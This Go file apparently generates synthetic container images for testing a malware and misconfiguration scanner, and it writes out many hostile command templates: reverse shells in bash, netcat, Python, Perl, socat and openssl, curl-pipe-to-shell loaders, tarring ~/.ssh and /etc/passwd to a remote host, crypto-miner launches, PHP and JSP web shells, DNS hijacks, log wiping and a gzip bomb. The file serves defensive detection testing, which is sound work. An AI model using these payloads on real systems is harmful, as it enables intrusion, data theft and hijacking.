package main

import (
	"bytes"
	"compress/gzip"
	"crypto/ed25519"
	"crypto/x509"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"io"
	"slices"
	"strings"

	"github.com/lazaret/lazaret/inspect"
	"github.com/lazaret/lazaret/internal/testimage"
)

// families has the techniques of each category. Sources: the reports that are named at
// the techniques, and the manuals of the programs they start.
func families() []family {
	anywhere := slices.Concat(places, packed)
	return []family{
		{inspect.Miner, miners(), anywhere},
		{inspect.Secret, secrets(), append(slices.Clone(places), packed[0])},
		{inspect.Backdoor, backdoors(), places},
		{inspect.HackingTool, hackers(), places},
		{inspect.ProxyAvoidance, proxies(), places},
		{inspect.DNSHijack, hijackers(), places},
		{inspect.Forwarder, forwarders(), places},
		{inspect.MaliciousDomain, callers(badHosts), places},
		{inspect.NewDomain, callers(youngHosts), places},
		{inspect.DynamicDNS, callers(dynamicHosts), places},
		{inspect.Typosquat, imitators(), places},
		{inspect.Malware, malware(), anywhere},
		{inspect.Uninspectable, unreadable(), places},
	}
}

// Unit 42 2020 and 2021 (azurenql, 30 images with 20 M pulls), Sysdig 2022, and xmrig's,
// cpuminer's and ethminer's own manuals.
func miners() []technique {
	pool := func(g gen) string { return g.pick("pool.", "xmr.", "eu.", "") + g.host() }
	return []technique{
		{"stratum launch", func(g gen) act {
			return act{line: fmt.Sprintf("/%s/%s -o stratum+%s://%s:%d -u %s -p x -k --donate-level %d", g.dir(), g.word(), g.pick("tcp", "ssl"), pool(g), g.port(), g.wallet(), g.IntN(3))}
		}},
		{"launch without stratum", func(g gen) act {
			return act{line: fmt.Sprintf("/%s/%s --url=%s:%d --user=%s.%s --pass=x --coin=monero --cpu-max-threads-hint=%d", g.dir(), g.word(), pool(g), g.port(), g.wallet(), g.word(), 50+g.IntN(40))}
		}},
		{"settings of xmrig", func(g gen) act {
			return act{files: []testimage.File{file(g.dir()+"/"+g.word()+g.pick(".json", ".cfg", ""), fmt.Sprintf("{\n \"background\": true, \"donate-level\": 0,\n \"randomx\": {\"init\": -1, \"mode\": \"auto\"},\n \"pools\": [{\"algo\": null, \"coin\": \"monero\", \"url\": \"%s:%d\", \"user\": %q, \"pass\": %q, \"rig-id\": %q, \"keepalive\": true, \"tls\": true}],\n \"retries\": 5}\n", pool(g), g.port(), g.wallet(), g.word(), g.word()))}}
		}},
		{"renamed program", func(g gen) act {
			p := g.dir() + "/" + g.pick("kworker", "dbused", "bash", "nginx", g.word())
			return act{line: "/" + p, files: []testimage.File{program(p, g.elf("mining.notify", "mining.subscribe", "mining.authorize", "stratum+tcp://", "stratum+ssl://", "randomx", "cryptonight", "rig-id", "donate-level", "pools", "cn-heavy/xhv", "rx/wow", "hwloc", "accepted (%d/%d) diff %d", "\"method\":\"login\"", "keepalived"))}}
		}},
		{"pool and wallet in the environment", func(g gen) act {
			return act{line: "/usr/local/bin/" + g.word() + " -o $POOL -u $WALLET -p $WORKER --randomx-mode=auto", env: []string{fmt.Sprintf("POOL=stratum+tcp://%s:%d", pool(g), g.port()), "WALLET=" + g.wallet(), "WORKER=" + g.word()}}
		}},
		{"bitcoin-like with cpuminer", func(g gen) act {
			return act{line: fmt.Sprintf("/usr/bin/%s -a %s -o stratum+tcp://%s:%d -u %s.1 -p c=BTC -t 4", g.word(), g.pick("lyra2rev2", "scrypt", "yespower", "ghostrider", "x16r"), pool(g), g.port(), g.from("123456789abcdefghijkmnpqrstuvwxyz", 33))}
		}},
		{"ethash in a script", func(g gen) act {
			w := "0x" + g.from("0123456789abcdef", 40)
			return act{line: fmt.Sprintf("while true; do ./%s -U -P stratum1+tcp://%s.%s@%s:%d --farm-recheck 200; sleep 3; done", g.word(), w, g.word(), pool(g), g.port())}
		}},
		{"fetched and started", func(g gen) act {
			return act{line: fmt.Sprintf("curl -sL https://github.com/xmrig/xmrig/releases/download/v6.%d.0/xmrig-6.%d.0-linux-static-x64.tar.gz | tar xz -C /tmp && /tmp/xmrig-6.%d.0/xmrig -o %s:%d -u %s -p %s", 15+g.IntN(7), 15+g.IntN(7), 15+g.IntN(7), pool(g), g.port(), g.wallet(), g.word())}
		}},
	}
}

// RWTH Aachen 2023 (secrets in Docker images), Sysdig 2022.
func secrets() []technique {
	return []technique{
		{"AWS keys", func(g gen) act {
			id, key := testimage.AWSKey(g.seed)
			return act{files: []testimage.File{file("root/.aws/credentials", "[default]\naws_access_key_id="+id+"\naws_secret_access_key="+key+"\n")}}
		}},
		{"GitHub token", func(g gen) act {
			return act{files: []testimage.File{file(g.dir()+"/"+g.pick(".env", "deploy.sh", "config.yml"), "export GITHUB_TOKEN="+testimage.GitHubToken(g.seed)+"\n")}}
		}},
		{"private key of ssh", func(g gen) act {
			return act{files: []testimage.File{file("root/.ssh/id_"+g.pick("rsa", "ed25519", "ecdsa"), privateKey(g))}}
		}},
		{"npm token", func(g gen) act {
			return act{files: []testimage.File{file(g.pick("root/", "app/")+".npmrc", "//registry.npmjs.org/:_authToken=npm_"+g.from(alnum, 36)+"\n")}}
		}},
		{"registry login", func(g gen) act {
			return act{files: []testimage.File{file("root/.docker/config.json", "{\"auths\":{\"https://index.docker.io/v1/\":{\"auth\":\""+base64.StdEncoding.EncodeToString([]byte(g.word()+":"+g.from(alnum, 20)))+"\"}}}")}}
		}},
		{"git credentials", func(g gen) act {
			return act{files: []testimage.File{file("root/.git-credentials", "https://"+g.word()+":"+g.from(alnum, 24)+"@"+g.host()+"\n")}}
		}},
		{"netrc", func(g gen) act {
			return act{files: []testimage.File{file("root/.netrc", "machine "+g.host()+"\nlogin "+g.word()+"\npassword "+g.from(alnum, 18)+"\n")}}
		}},
		{"key in the environment", func(g gen) act {
			id, key := testimage.AWSKey(g.seed)
			return act{line: "/app/run.sh", env: []string{"AWS_ACCESS_KEY_ID=" + id, "AWS_SECRET_ACCESS_KEY=" + key}}
		}},
		{"password of a database", func(g gen) act {
			return act{files: []testimage.File{file("root/.pgpass", g.host()+":5432:"+g.word()+":"+g.word()+":"+g.from(alnum, 20)+"\n")}}
		}},
		{"Slack and Stripe", func(g gen) act {
			return act{files: []testimage.File{file("app/settings.py", "STRIPE = 'sk_live_"+g.from(alnum, 24)+"'\nSLACK = 'xoxb-"+g.from("0123456789", 12)+"-"+g.from("0123456789", 13)+"-"+g.from(alnum, 24)+"'\n")}}
		}},
		{"kubeconfig", func(g gen) act {
			return act{files: []testimage.File{file("root/.kube/config", "apiVersion: v1\nkind: Config\nusers:\n- name: admin\n  user:\n    token: eyJhbGciOiJSUzI1NiJ9."+g.from(alnum, 120)+"."+g.from(alnum+"_", 80)+"\n")}}
		}},
	}
}

// privateKey is a fresh key without a passphrase.
func privateKey(g gen) string {
	key := ed25519.NewKeyFromSeed(testimage.Noise(g.seed, ed25519.SeedSize))
	der, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		panic(err) // of an ed25519 key: cannot be
	}
	return string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}))
}

// MITRE ATT&CK T1098.004, T1059.004, T1574.006, T1136, T1548.001.
func backdoors() []technique {
	return []technique{
		{"planted key", func(g gen) act {
			home := g.pick("root", "home/"+g.word(), "var/lib/"+g.word())
			return act{files: []testimage.File{file(home+"/.ssh/authorized_keys", g.key()+"\n")}}
		}},
		{"key written at start", func(g gen) act {
			return act{line: "mkdir -p /root/.ssh && echo '" + g.key() + "' >> /root/.ssh/authorized_keys && /usr/sbin/sshd -D"}
		}},
		{"bash to a socket", func(g gen) act {
			return act{line: fmt.Sprintf("bash -i >& /dev/tcp/%s/%d 0>&1", g.pick(g.ip(), g.host()), g.port())}
		}},
		{"netcat with a shell", func(g gen) act {
			return act{line: fmt.Sprintf("%s -e /bin/%s %s %d", g.pick("nc", "ncat", "nc.traditional"), g.pick("sh", "bash"), g.ip(), g.port())}
		}},
		{"fifo and netcat", func(g gen) act {
			f := "/tmp/" + g.word()
			return act{line: fmt.Sprintf("rm -f %s; mkfifo %s; cat %s | /bin/sh -i 2>&1 | nc %s %d > %s", f, f, f, g.ip(), g.port(), f)}
		}},
		{"socket in python", func(g gen) act {
			return act{line: fmt.Sprintf(`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("%s",%d));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`, g.ip(), g.port())}
		}},
		{"socat with a shell", func(g gen) act {
			return act{line: fmt.Sprintf("socat TCP:%s:%d EXEC:'/bin/bash -li',pty,stderr,setsid,sigint,sane", g.ip(), g.port())}
		}},
		{"second root", func(g gen) act {
			return act{files: []testimage.File{file("etc/passwd", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"+g.word()+":x:0:0::/root:/bin/bash\n")}}
		}},
		{"preloaded library", func(g gen) act {
			lib := "/" + g.pick("usr/lib/", "tmp/.", "lib/x86_64-linux-gnu/") + "lib" + g.word() + ".so"
			return act{files: []testimage.File{file("etc/ld.so.preload", lib+"\n"), program(lib[1:], g.elf("readdir", "readdir64", "dlsym", "/proc/self/fd/%d", "/proc/%s/stat", "accept", "write"))}}
		}},
		{"setuid shell", func(g gen) act {
			return act{files: []testimage.File{{Path: g.pick("usr/bin/", "tmp/", "var/tmp/.") + g.word(), Mode: 0o4755, Body: g.elf("GNU bash, version %s (%s)", "BASH_VERSINFO", "/etc/profile", "bash_completion", "shopt")}}}
		}},
		{"perl reverse shell", func(g gen) act {
			return act{line: fmt.Sprintf(`perl -e 'use Socket;$i="%s";$p=%d;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'`, g.ip(), g.port())}
		}},
		{"openssl pipe", func(g gen) act {
			f := "/tmp/." + g.word()
			return act{line: fmt.Sprintf("mkfifo %s; /bin/sh -i < %s 2>&1 | openssl s_client -quiet -connect %s:%d > %s", f, f, g.ip(), g.port(), f)}
		}},
	}
}

func hackers() []technique {
	net := func(g gen) string { return fmt.Sprintf("%d.%d.0.0/%d", 20+g.IntN(150), g.IntN(250), 8+g.IntN(9)) }
	line := func(name, format string, args func(g gen) []any) technique {
		return technique{name, func(g gen) act { return act{line: fmt.Sprintf(format, args(g)...)} }}
	}
	return []technique{
		line("masscan", "masscan %s -p%d,%d --rate %d -oL /tmp/out", func(g gen) []any { return []any{net(g), 2375, g.port(), 10000 + g.IntN(90000)} }),
		line("hydra", "hydra -L /opt/users.txt -P /opt/%s.txt -t 64 ssh://%s", func(g gen) []any { return []any{g.word(), g.ip()} }),
		line("zmap", "zmap -p %d -o /tmp/%s -B 100M %s", func(g gen) []any { return []any{g.port(), g.word(), net(g)} }),
		line("sqlmap", "python3 /opt/sqlmap/sqlmap.py -u http://%s/?id=1 --batch --dump-all --risk=3 --level=5", func(g gen) []any { return []any{g.host()} }),
		line("metasploit", "msfconsole -q -x 'use exploit/multi/handler; set payload linux/x64/meterpreter/reverse_tcp; set LHOST %s; set LPORT %d; run'", func(g gen) []any { return []any{g.ip(), g.port()} }),
		line("slow flood", "python3 /opt/slowloris.py %s -p 443 -s %d", func(g gen) []any { return []any{g.host(), 500 + g.IntN(2000)} }),
		line("hping flood", "hping3 -S --flood -V -p %d --rand-source %s", func(g gen) []any { return []any{g.port(), g.host()} }),
		line("nuclei", "nuclei -l /tmp/targets.txt -t cves/ -rl %d -o /tmp/%s", func(g gen) []any { return []any{100 + g.IntN(900), g.word()} }),
		line("password cracking", "hashcat -m 1000 -a 0 /data/%s.hash /usr/share/wordlists/rockyou.txt", func(g gen) []any { return []any{g.word()} }),
		line("medusa", "medusa -h %s -U /opt/u -P /opt/p -M ssh -t 32", func(g gen) []any { return []any{g.ip()} }),
		line("nmap over the net", "nmap -sS -Pn -n -T4 --open -p 22,2375,6379 %s -oG /tmp/%s", func(g gen) []any { return []any{net(g), g.word()} }),
		line("web brute force", "ffuf -w /usr/share/wordlists/%s.txt -u https://%s/FUZZ -t 200", func(g gen) []any { return []any{g.word(), g.host()} }),
	}
}

func proxies() []technique {
	return []technique{
		{"tor as a proxy", func(g gen) act {
			return act{line: "tor -f /etc/tor/torrc", files: []testimage.File{file("etc/tor/torrc", fmt.Sprintf("SocksPort 0.0.0.0:%d\nSocksPolicy accept *\nDataDirectory /var/lib/tor\n", g.port())), program("usr/bin/tor", g.elf("Tor %s", "SocksPort", "ControlPort", "HiddenServiceDir", "ORPort", "Bootstrapped %d%%"))}}
		}},
		{"hidden service", func(g gen) act {
			return act{line: "tor", files: []testimage.File{file("etc/tor/torrc", fmt.Sprintf("HiddenServiceDir /var/lib/tor/%s/\nHiddenServicePort 80 127.0.0.1:%d\n", g.word(), g.port())), program("usr/sbin/tor", g.elf("Tor %s", "SocksPort", "HiddenServiceDir"))}}
		}},
		{"shadowsocks server", func(g gen) act {
			return act{line: fmt.Sprintf("%s -s 0.0.0.0 -p %d -k %s -m %s -u --fast-open", g.pick("ss-server", "ssserver", "/usr/local/bin/ss-server"), g.port(), g.from(alnum, 12), g.pick("aes-256-gcm", "chacha20-ietf-poly1305"))}
		}},
		{"shadowsocks by settings", func(g gen) act {
			p := "etc/" + g.word() + ".json"
			return act{line: "ss-server -c /" + p, files: []testimage.File{file(p, fmt.Sprintf("{\"server\":\"0.0.0.0\",\"server_port\":%d,\"password\":%q,\"timeout\":300,\"method\":\"aes-256-gcm\"}", g.port(), g.from(alnum, 16)))}}
		}},
		{"v2ray", func(g gen) act {
			p := "etc/" + g.pick("v2ray", "xray") + "/config.json"
			return act{line: g.pick("v2ray run -c /", "xray run -config /", "/usr/bin/v2ray -config /") + p, files: []testimage.File{file(p, fmt.Sprintf("{\"inbounds\":[{\"port\":%d,\"protocol\":\"vmess\",\"settings\":{\"clients\":[{\"id\":\"%s-%s-4%s-a%s-%s\",\"alterId\":0}]},\"streamSettings\":{\"network\":\"ws\"}}],\"outbounds\":[{\"protocol\":\"freedom\"}]}", g.port(), g.from("0123456789abcdef", 8), g.from("0123456789abcdef", 4), g.from("0123456789abcdef", 3), g.from("0123456789abcdef", 3), g.from("0123456789abcdef", 12)))}}
		}},
		{"proxychains", func(g gen) act {
			return act{line: "proxychains4 -f /etc/proxychains.conf python3 /opt/" + g.word() + ".py", files: []testimage.File{file("etc/proxychains.conf", fmt.Sprintf("dynamic_chain\nproxy_dns\n[ProxyList]\nsocks5 %s %d\n", g.ip(), g.port()))}}
		}},
		{"traffic is sold", func(g gen) act {
			return act{line: g.pick("./Cli start accept --token "+g.from(alnum, 44)+"=", "honeygain -tou-accept -email "+g.word()+"@"+g.host()+" -pass "+g.from(alnum, 10)+" -device "+g.word(), "pawns-cli -email="+g.word()+"@"+g.host()+" -password="+g.from(alnum, 10)+" -device-name="+g.word()+" -accept-tos", "/app/peer2profit -l "+g.word()+"@"+g.host())}
		}},
		{"gost", func(g gen) act {
			return act{line: fmt.Sprintf("gost -L=%s://%s:%s@:%d -F=relay+tls://%s:%d", g.pick("socks5", "http", "ss"), g.word(), g.from(alnum, 8), g.port(), g.host(), g.port())}
		}},
		{"trojan", func(g gen) act {
			p := "etc/" + g.word() + "/config.json"
			return act{line: g.pick("trojan", "trojan-go", "/usr/bin/trojan-go") + " -config /" + p, files: []testimage.File{file(p, fmt.Sprintf("{\"run_type\":\"server\",\"local_addr\":\"0.0.0.0\",\"local_port\":443,\"remote_addr\":\"127.0.0.1\",\"remote_port\":80,\"password\":[%q],\"ssl\":{\"cert\":\"/c.pem\",\"key\":\"/k.pem\"}}", g.from(alnum, 16)))}}
		}},
		{"open squid", func(g gen) act {
			return act{line: "squid -N -f /etc/squid/squid.conf", files: []testimage.File{file("etc/squid/squid.conf", fmt.Sprintf("http_port %d\nhttp_access allow all\nvia off\nforwarded_for delete\n", g.port()))}}
		}},
		{"hysteria", func(g gen) act {
			return act{line: "hysteria server -c /etc/hysteria/config.yaml", files: []testimage.File{file("etc/hysteria/config.yaml", fmt.Sprintf("listen: :%d\nauth:\n  type: password\n  password: %s\nmasquerade:\n  type: proxy\n", g.port(), g.from(alnum, 14)))}}
		}},
		{"microsocks", func(g gen) act {
			return act{line: fmt.Sprintf("microsocks -i 0.0.0.0 -p %d -u %s -P %s", g.port(), g.word(), g.from(alnum, 9))}
		}},
	}
}

func hijackers() []technique {
	known := func(g gen) string {
		return g.pick("registry-1.docker.io", "auth.docker.io", "github.com", "www.google.com", "pypi.org", "registry.npmjs.org", "deb.debian.org", "archive.ubuntu.com", "login.microsoftonline.com", "api.paypal.com", "s3.amazonaws.com")
	}
	return []technique{
		{"hosts file", func(g gen) act {
			return act{files: []testimage.File{file("etc/hosts", "127.0.0.1 localhost\n"+g.stranger()+" "+known(g)+" "+known(g)+"\n")}}
		}},
		{"hosts file at start", func(g gen) act {
			return act{line: "echo '" + g.stranger() + " " + known(g) + "' >> /etc/hosts && exec /app/run.sh"}
		}},
		{"dnsmasq address", func(g gen) act {
			return act{files: []testimage.File{file("etc/dnsmasq.d/"+g.word()+".conf", "address=/"+known(g)+"/"+g.stranger()+"\naddress=/"+known(g)+"/"+g.stranger()+"\n")}}
		}},
		{"dnsmasq at start", func(g gen) act {
			return act{line: "dnsmasq -k --address=/" + known(g) + "/" + g.stranger()}
		}},
		{"unbound", func(g gen) act {
			n := known(g)
			return act{files: []testimage.File{file("etc/unbound/unbound.conf.d/"+g.word()+".conf", "server:\n  local-zone: \""+n+".\" redirect\n  local-data: \""+n+". A "+g.stranger()+"\"\n")}}
		}},
		{"nat of port 53", func(g gen) act {
			return act{line: "iptables -t nat -A OUTPUT -p udp --dport 53 -j DNAT --to-destination " + g.stranger() + ":53"}
		}},
		{"CoreDNS", func(g gen) act {
			return act{files: []testimage.File{file("etc/coredns/Corefile", ".:53 {\n  hosts {\n    "+g.stranger()+" "+known(g)+"\n    fallthrough\n  }\n  forward . 1.1.1.1\n}\n")}}
		}},
		{"update host blackholed", func(g gen) act {
			return act{line: "printf '0.0.0.0 " + g.pick("registry-1.docker.io", "security.debian.org", "archive.ubuntu.com") + "\\n' >> /etc/hosts"}
		}},
		{"bind zone", func(g gen) act {
			n := known(g)
			return act{files: []testimage.File{file("etc/bind/named.conf.local", "zone \""+n+"\" { type master; file \"/etc/bind/db."+n+"\"; };\n"), file("etc/bind/db."+n, "$TTL 60\n@ IN SOA ns. root. (1 60 60 60 60)\n  IN NS ns.\n@ IN A "+g.stranger()+"\n")}}
		}},
	}
}

func forwarders() []technique {
	return []technique{
		{"nginx return", func(g gen) act {
			return act{files: []testimage.File{file(g.pick("etc/nginx/conf.d/default.conf", "etc/nginx/sites-enabled/default"), "server {\n  listen 80 default_server;\n  server_name _;\n  return "+g.pick("301", "302")+" https://"+g.host()+"/"+g.word()+";\n}\n")}}
		}},
		{"nginx proxy", func(g gen) act {
			return act{files: []testimage.File{file("etc/nginx/nginx.conf", "events {}\nhttp {\n  server {\n    listen 80;\n    location / {\n      proxy_pass https://"+g.host()+";\n      proxy_ssl_server_name on;\n    }\n  }\n}\n")}}
		}},
		{"apache redirect", func(g gen) act {
			return act{files: []testimage.File{file("etc/apache2/sites-enabled/000-default.conf", "<VirtualHost *:80>\n  Redirect 302 / https://"+g.host()+"/\n</VirtualHost>\n")}}
		}},
		{"apache proxy", func(g gen) act {
			h := g.host()
			return act{files: []testimage.File{file("usr/local/apache2/conf/extra/"+g.word()+".conf", "<VirtualHost *:80>\n  ProxyPass / http://"+h+"/\n  ProxyPassReverse / http://"+h+"/\n</VirtualHost>\n")}}
		}},
		{"caddy", func(g gen) act {
			return act{files: []testimage.File{file("etc/caddy/Caddyfile", ":80 {\n  "+g.pick("redir https://"+g.host()+"{uri}", "reverse_proxy https://"+g.host())+"\n}\n")}}
		}},
		{"haproxy", func(g gen) act {
			return act{files: []testimage.File{file("usr/local/etc/haproxy/haproxy.cfg", "frontend f\n  bind *:80\n  mode http\n  default_backend b\nbackend b\n  mode http\n  server s1 "+g.host()+":443 ssl verify none\n")}}
		}},
		{"meta refresh", func(g gen) act {
			return act{files: []testimage.File{file(g.pick("usr/share/nginx/html/index.html", "var/www/html/index.html", "usr/local/apache2/htdocs/index.html"), "<html><head><meta http-equiv=\"refresh\" content=\"0; url=https://"+g.host()+"/"+g.word()+"\"></head></html>\n")}}
		}},
		{"script location", func(g gen) act {
			return act{files: []testimage.File{file("usr/share/nginx/html/index.html", "<!doctype html><script>window.location."+g.pick("href = ", "replace(")+"'https://"+g.host()+"/'"+g.pick("", "")+"</script>\n")}}
		}},
		{"socat", func(g gen) act {
			return act{line: fmt.Sprintf("socat TCP-LISTEN:%d,fork,reuseaddr TCP:%s:%d", 80+g.IntN(9000), g.host(), 443)}
		}},
		{"lighttpd", func(g gen) act {
			return act{files: []testimage.File{file("etc/lighttpd/lighttpd.conf", "server.modules = (\"mod_redirect\")\nserver.port = 80\nurl.redirect = (\"^/(.*)\" => \"https://"+g.host()+"/$1\")\n")}}
		}},
	}
}

// callers use hosts in the places where a host is used.
func callers(hosts func(gen) string) []technique {
	return []technique{
		{"fetched at start", func(g gen) act {
			return act{line: g.pick("curl -fsSL ", "wget -qO- ") + g.pick("http", "https") + "://" + hosts(g) + "/" + g.word() + ".sh | sh"}
		}},
		{"beacon", func(g gen) act {
			return act{line: "while :; do curl -s http://" + hosts(g) + "/" + g.word() + "?h=$(hostname) >/dev/null; sleep 60; done"}
		}},
		{"connected to", func(g gen) act {
			return act{line: fmt.Sprintf("/usr/local/bin/%s --server %s:%d --key %s", g.word(), hosts(g), g.port(), g.from(alnum, 10))}
		}},
		{"in the environment", func(g gen) act {
			return act{line: "/app/run.sh --remote $C2_URL", env: []string{"C2_URL=https://" + hosts(g) + "/api"}}
		}},
		{"in python", func(g gen) act {
			return act{line: "python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://" + hosts(g) + "/" + g.word() + "\").read())'"}
		}},
		{"uploaded to", func(g gen) act {
			return act{line: "tar cz /root/.ssh /etc/passwd | curl -s -F f=@- https://" + hosts(g) + "/up"}
		}},
	}
}

func badHosts(g gen) string   { return g.pick("", "cdn.", "www.") + listed("bad", g.IntN(listedHosts)) }
func youngHosts(g gen) string { return g.pick("", "api.") + listed("young", g.IntN(listedHosts)) }

// Providers of names for changing addresses, from their own lists of domains.
func dynamicHosts(g gen) string {
	return g.word() + g.word() + "." + g.pick("duckdns.org", "ddns.net", "hopto.org", "zapto.org", "no-ip.org", "dynu.net", "mooo.com", "dyndns.org", "myftp.biz", "sytes.net", "chickenkiller.com", "servebeer.com", "gotdns.org", "f3322.net")
}

// listedHosts is how many hosts each generated feed has.
const listedHosts = 60

// listed is host i of a generated feed.
func listed(feed string, i int) string { return newGen(fmt.Sprintf("feed %s %d", feed, i)).host() }

func maliciousFeed() string {
	var b strings.Builder
	for i := range listedHosts {
		b.WriteString(listed("bad", i) + "\n")
	}
	return b.String()
}

func newFeed() string {
	b := "# date: 2026-11-20\n"
	for i := range listedHosts {
		b += fmt.Sprintf("%s,2026-11-%02d\n", listed("young", i), 1+i%19)
	}
	return b
}

// imitators have names alone: an official image's or a publisher's, misspelt.
func imitators() []technique {
	officials := []string{"nginx", "redis", "postgres", "ubuntu", "alpine", "python", "golang", "mongo", "mysql", "wordpress", "mariadb", "rabbitmq", "traefik", "debian", "couchdb", "memcached", "registry", "haproxy", "jenkins", "tomcat"}
	named := func(name string, make func(g gen, s string) string) technique {
		return technique{name, func(g gen) act { return act{repository: g.word() + g.word() + "/" + make(g, g.pick(officials...))} }}
	}
	inner := func(g gen, s string) int { return 1 + g.IntN(len(s)-2) }
	return []technique{
		named("letters swapped", func(g gen, s string) string {
			for {
				if i := inner(g, s); s[i] != s[i+1] {
					return s[:i] + string(s[i+1]) + string(s[i]) + s[i+2:]
				}
			}
		}),
		named("letter left out", func(g gen, s string) string { i := inner(g, s); return s[:i] + s[i+1:] }),
		named("letter doubled", func(g gen, s string) string { i := inner(g, s); return s[:i] + string(s[i]) + s[i:] }),
		named("separator", func(g gen, s string) string { i := 1 + g.IntN(len(s)-1); return s[:i] + g.pick("-", "_") + s[i:] }),
		named("confusable", func(g gen, s string) string {
			r := strings.NewReplacer("o", "0", "l", "1", "i", "1", "m", "rn", "e", "3", "w", "vv")
			if t := r.Replace(s); t != s {
				return t
			}
			return s[:len(s)-1] + s[len(s)-2:]
		}),
		named("official elsewhere", func(g gen, s string) string { return s }),
		{"publisher misspelt", func(g gen) act {
			p := g.pick("bitnami", "grafana", "hashicorp", "linuxserver", "rancher", "jenkins", "portainer", "elastic")
			i := 1 + g.IntN(len(p)-2)
			return act{repository: p[:i] + string(p[i]) + p[i:] + "/" + g.pick("redis", "nginx", "postgresql", "kafka")}
		}},
	}
}

// Web shells (b374k, WSO and their kind), loaders, hiders: the techniques that public
// analyses describe, none of the code.
func malware() []technique {
	return []technique{
		{"php shell", func(g gen) act {
			v := g.word()
			return act{files: []testimage.File{file(g.pick("var/www/html/", "usr/share/nginx/html/wp-content/", "app/public/")+g.word()+".php", "<?php\n"+g.pick("@eval($_POST['"+v+"']);", "system($_GET['"+v+"']);", "$f=$_REQUEST['"+v+"']; echo shell_exec($f);", "assert($_POST['"+v+"']);")+"\n?>\n")}}
		}},
		{"php shell, packed", func(g gen) act {
			return act{files: []testimage.File{file("var/www/html/"+g.word()+".php", "<?php $a='"+g.word()+"'; eval(gzinflate(base64_decode($_POST[$a])));\n")}}
		}},
		{"jsp shell", func(g gen) act {
			return act{files: []testimage.File{file("usr/local/tomcat/webapps/ROOT/"+g.word()+".jsp", "<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRuntime().exec(request.getParameter(\""+g.word()+"\")); %>")}}
		}},
		{"process hider", func(g gen) act {
			return act{files: []testimage.File{program("usr/local/lib/lib"+g.word()+".so", g.elf("readdir", "readdir64", "dlsym", "/proc/self/fd/%d", "/proc/%s/stat", "process_to_filter", "Error in dlsym: %s"))}}
		}},
		{"bot", func(g gen) act {
			return act{files: []testimage.File{program(g.dir()+"/"+g.word(), g.elf("/bin/busybox MIRAI", "/bin/busybox", "enable", "shell", "POST /cdn-cgi/", "GET /tftp", "LCOGQGPTGP", "/dev/watchdog", "TSource Engine Query", "/proc/net/tcp", "xc3511", "vizxv", "7ujMko0admin"))}}
		}},
		{"irc bot", func(g gen) act {
			return act{files: []testimage.File{program(g.dir()+"/"+g.word(), g.elf("NICK %s", "USER %s localhost localhost :%s", "PRIVMSG %s :UDP <target> <port> <secs>", "TSUNAMI <target> <secs>", "NOTICE %s :GETSPOOFS", "PANG", "KILLALL", "JOIN %s :%s"))}}
		}},
		{"rivals are killed", func(g gen) act {
			return act{line: "pkill -f kinsing; pkill -f kdevtmpfsi; pkill -9 xmrig; setenforce 0; /etc/init.d/aegis uninstall; rm -f /var/log/wtmp; (curl -s http://" + g.ip() + "/" + g.word() + ".sh || wget -qO- http://" + g.ip() + "/" + g.word() + ".sh) | bash; chattr +i /etc/crontab; history -c"}
		}},
		{"test file of antivirus programs", func(g gen) act {
			// https://www.eicar.org/download-anti-malware-testfile/, in pieces
			return act{files: []testimage.File{file(g.dir()+"/"+g.word()+".com", `X5O!P%@AP[4\PZX54(P^)7CC)7}$`+`EICAR-STANDARD-`+`ANTIVIRUS-TEST-FILE!$H+H*`)}}
		}},
	}
}

// unreadable are images that cannot be read to the end: bombs, damage, encryption.
func unreadable() []technique {
	raw := func(name, compression string, make func(g gen) []byte) technique {
		return technique{name, func(g gen) act {
			return act{layers: []testimage.Layer{{Compression: compression, CreatedBy: "ADD x / # buildkit", Raw: make(g)}}}
		}}
	}
	archive := func(g gen) []byte {
		b, _ := testimage.Tar([]testimage.File{{Path: g.word(), Body: testimage.Noise(g.seed, 60<<10)}, {Path: g.word(), Body: testimage.Noise(g.seed+"2", 60<<10)}})
		return b
	}
	packed := func(how string, b []byte) []byte { b, _ = testimage.Compress(how, b); return b }
	return []technique{
		raw("cut gzip", "gzip", func(g gen) []byte { b := packed("gzip", archive(g)); return b[:len(b)/2+g.IntN(len(b)/4)] }),
		raw("cut tar", "", func(g gen) []byte { b := archive(g); return b[:60<<10+g.IntN(30<<10)] }),
		raw("cut zstd", "zstd", func(g gen) []byte { b := packed("zstd", archive(g)); return b[:len(b)/2+g.IntN(len(b)/4)] }),
		raw("flipped bits", "gzip", func(g gen) []byte {
			b := bytes.Clone(packed("gzip", archive(g)))
			for i := range 40 {
				b[len(b)/2+i] ^= byte(1 + g.IntN(255))
			}
			return b
		}),
		raw("bytes behind gzip", "gzip", func(g gen) []byte {
			return append(bytes.Clone(packed("gzip", archive(g))), testimage.Noise(g.seed+"t", 500)...)
		}),
		raw("bomb", "gzip", func(g gen) []byte {
			var b bytes.Buffer
			z, _ := gzip.NewWriterLevel(&b, gzip.DefaultCompression)
			head, _ := testimage.Tar([]testimage.File{{Path: g.word()}})
			head = bytes.Clone(head[:512])
			copy(head[124:136], "10000000000\x00") // a GiB, in octal
			copy(head[148:156], "        ")
			sum := 0
			for _, c := range head {
				sum += int(c)
			}
			copy(head[148:156], fmt.Sprintf("%06o\x00 ", sum))
			_, _ = z.Write(head)
			_, _ = io.CopyN(z, zeros{}, 80<<20)
			_ = z.Close()
			return b.Bytes()
		}),
		raw("encrypted", "gzip", func(g gen) []byte { return append([]byte("\x1f\x8b\x08\x00"), testimage.Noise(g.seed, 30<<10)...) }),
	}
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) { clear(p); return len(p), nil }
